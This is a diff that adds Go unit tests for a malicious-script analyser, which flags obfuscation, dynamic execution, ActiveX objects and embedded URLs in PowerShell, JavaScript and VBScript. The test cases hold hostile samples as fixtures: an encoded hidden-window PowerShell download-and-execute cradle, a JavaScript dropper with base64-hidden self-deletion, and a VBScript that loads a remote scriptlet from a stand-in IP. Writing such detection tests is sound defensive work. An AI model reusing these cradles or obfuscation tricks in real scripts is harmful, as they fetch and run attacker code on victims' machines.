@@ -0,0 +1,237 @@
+package extractors
+
+import (
+	"encoding/base64"
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+	"unicode/utf16"
+)
+
+// encodedCommand encodes a PowerShell command for -EncodedCommand: base64 of UTF-16LE.
+func encodedCommand(command string) string {
+	var b []byte
+	for _, c := range utf16.Encode([]rune(command)) {
+		b = append(b, byte(c), byte(c>>8))
+	}
+	return base64.StdEncoding.EncodeToString(b)
+}
+
+// codes lists the character codes of s, formatted with format and joined with sep.
+func codes(s, format, sep string) string {
+	parts := make([]string, 0, len(s))
+	for _, r := range s {
+		parts = append(parts, fmt.Sprintf(format, r))
+	}
+	return strings.Join(parts, sep)
+}
+
+func TestAnalyseScript(t *testing.T) {
+	download := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
+	fso := `new ActiveXObject("Scripting.FileSystemObject").DeleteFile(WScript.ScriptFullName)`
+
+	type expected struct {
+		dynamic  []string
+		activeX  []string
+		commands []string
+		urls     []string
+		ips      []string
+		blobs    int
+		arrays   int
+		encoded  bool
+	}
+	cases := []struct {
+		name     string
+		language string
+		script   string
+		expected expected
+	}{
+		{
+			"PowerShell encoded command",
+			"powershell",
+			"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand " + encodedCommand(download),
+			expected{
+				dynamic:  []string{"downloadstring", "iex"},
+				commands: []string{download},
+				urls:     []string{"http://198.51.100.7/a.ps1"},
+				ips:      []string{"198.51.100.7"},
+				blobs:    1,
+			},
+		},
+		{
+			"PowerShell abbreviated option",
+			"powershell",
+			"powershell -ep bypass -ec " + encodedCommand("Start-Process calc.exe"),
+			expected{
+				dynamic:  []string{"start-process"},
+				commands: []string{"Start-Process calc.exe"},
+				blobs:    1,
+			},
+		},
+		{
+			"PowerShell char casts",
+			"powershell",
+			"& (" + codes("iex ", "[char]%d", "+") + ") $payload",
+			expected{dynamic: []string{"iex"}, arrays: 1},
+		},
+		{
+			"JavaScript dropper",
+			"javascript",
+			`var u = String.fromCharCode(` + codes("https://cdn.example.net/update.js", "%d", ",") + `);
+var x = new ActiveXObject("MSXML2.XMLHTTP");
+var sh = new ActiveXObject('WScript.Shell');
+eval(atob("` + base64.StdEncoding.EncodeToString([]byte(fso)) + `"));`,
+			expected{
+				dynamic: []string{"eval"},
+				activeX: []string{"MSXML2.XMLHTTP", "WScript.Shell", "Scripting.FileSystemObject"},
+				urls:    []string{"https://cdn.example.net/update.js"},
+				blobs:   1,
+				arrays:  1,
+			},
+		},
+		{
+			"JavaScript number array",
+			"javascript",
+			"var k = [" + codes(`new Function("return this")`, "%d", ", ") + "];",
+			expected{dynamic: []string{"new function"}, arrays: 1},
+		},
+		{
+			"VBScript chr chain",
+			"vbscript",
+			`Set s = CreateObject("WScript.Shell")
+ExecuteGlobal ` + codes(`GetObject("script:http://203.0.113.9/p.sct")`, "Chr(%d)", " & "),
+			expected{
+				dynamic: []string{"executeglobal"},
+				activeX: []string{"WScript.Shell"},
+				urls:    []string{"http://203.0.113.9/p.sct"},
+				ips:     []string{"203.0.113.9"},
+				arrays:  1,
+			},
+		},
+		{
+			"encoded VBScript",
+			"vbscript",
+			`#@~^DgAAAA==\ko$K6,JCV^GJqAAA==^#~@`,
+			expected{encoded: true},
+		},
+		{
+			"clean script",
+			"javascript",
+			`function add(a, b) { return a + b; }`,
+			expected{},
+		},
+	}
+	for _, c := range cases {
+		meta := AnalyseScript(c.script, c.language)
+		got := expected{
+			dynamic:  meta.DynamicExecution,
+			activeX:  meta.ActiveXObjects,
+			commands: meta.EncodedCommands,
+			urls:     meta.URLs,
+			ips:      meta.IPs,
+			blobs:    meta.Base64Blobs,
+			arrays:   meta.CharCodeArrays,
+			encoded:  meta.ScriptEncoded,
+		}
+		if meta.Language != c.language || !reflect.DeepEqual(got, c.expected) {
+			t.Errorf("%s: expected %+v, got %+v", c.name, c.expected, got)
+		}
+	}
+}
+
+func TestAnalyseScriptDepth(t *testing.T) {
+	payload := `eval(new ActiveXObject('WScript.Shell'))`
+	for n := 1; n <= maxScriptDepth+1; n++ {
+		script := payload
+		for i := 0; i < n; i++ {
+			script = base64.StdEncoding.EncodeToString([]byte(script))
+		}
+		meta := AnalyseScript(`var p = "`+script+`";`, "javascript")
+		found := len(meta.ActiveXObjects) > 0
+		if found != (n <= maxScriptDepth) {
+			t.Errorf("%d levels of base64: payload analysed: %t", n, found)
+		}
+	}
+}
+
+func TestAnalyseScriptStrings(t *testing.T) {
+	long := strings.Repeat("abcdefgh", 40)
+	meta := AnalyseScript(`var a = "`+long+`"; var b = "0123456789abcdef0123456789abcdef";`, "javascript")
+	if meta.LongStrings != 1 {
+		t.Errorf("long strings: %d", meta.LongStrings)
+	}
+	if meta.MaxStringEntropy != 4 {
+		t.Errorf("max string entropy: %v", meta.MaxStringEntropy)
+	}
+	if meta := AnalyseScript("", "javascript"); meta.Entropy != 0 || meta.LongStrings != 0 {
+		t.Errorf("empty script: %+v", meta)
+	}
+}
+
+func TestEntropy(t *testing.T) {
+	cases := map[string]float64{"": 0, "aaaa": 0, "ab": 1, "abcd": 2, "aabb": 1, "0123456789abcdef": 4}
+	for s, e := range cases {
+		if v := entropy(s); v != e {
+			t.Errorf("entropy(%q) = %v, want %v", s, v, e)
+		}
+	}
+}
+
+func TestCharCodes(t *testing.T) {
+	cases := map[string]string{
+		"fromCharCode(72, 105)":      "Hi",
+		"Chr(72) & ChrW(233)":        "Hé",
+		"[char]72+[char]105":         "Hi",
+		"[72, 105, 33]":              "Hi!",
+		"fromCharCode(72, 99999999)": "",
+	}
+	for s, text := range cases {
+		if decoded := charCodes(s); decoded != text {
+			t.Errorf("charCodes(%q) = %q, want %q", s, decoded, text)
+		}
+	}
+}
+
+func TestPrintable(t *testing.T) {
+	cases := []struct {
+		b    []byte
+		text string
+	}{
+		{[]byte("plain text\r\n"), "plain text\r\n"},
+		{[]byte{'h', 0, 'i', 0, '!', 0}, "hi!"},
+		{[]byte{0x4d, 0x5a, 0x90, 0x00, 0x03}, ""},
+		{[]byte{0xff, 0xfe, 0xfd}, ""},
+		{[]byte("bell\a"), ""},
+	}
+	for _, c := range cases {
+		if text := printable(c.b); text != c.text {
+			t.Errorf("printable(%x) = %q, want %q", c.b, text, c.text)
+		}
+	}
+}
+
+func TestScriptLanguage(t *testing.T) {
+	cases := []struct {
+		filename string
+		mimetype string
+		language string
+	}{
+		{"invoice.js", "", "javascript"},
+		{"INVOICE.JSE", "", "javascript"},
+		{"docs/run.VBS", "application/octet-stream", "vbscript"},
+		{"update.ps1", "", "powershell"},
+		{"setup.cmd", "", "batch"},
+		{"page.hta", "", "hta"},
+		{"task.wsf", "", "wsf"},
+		{"script", "text/vbscript; charset=utf-8", "vbscript"},
+		{"script.txt", "application/x-javascript", "javascript"},
+		{"notes.txt", "text/plain", ""},
+		{"", "", ""},
+	}
+	for _, c := range cases {
+		if language := ScriptLanguage(c.filename, c.mimetype); language != c.language {
+			t.Errorf("ScriptLanguage(%q, %q) = %q, want %q", c.filename, c.mimetype, language, c.language)
+		}
+	}
+}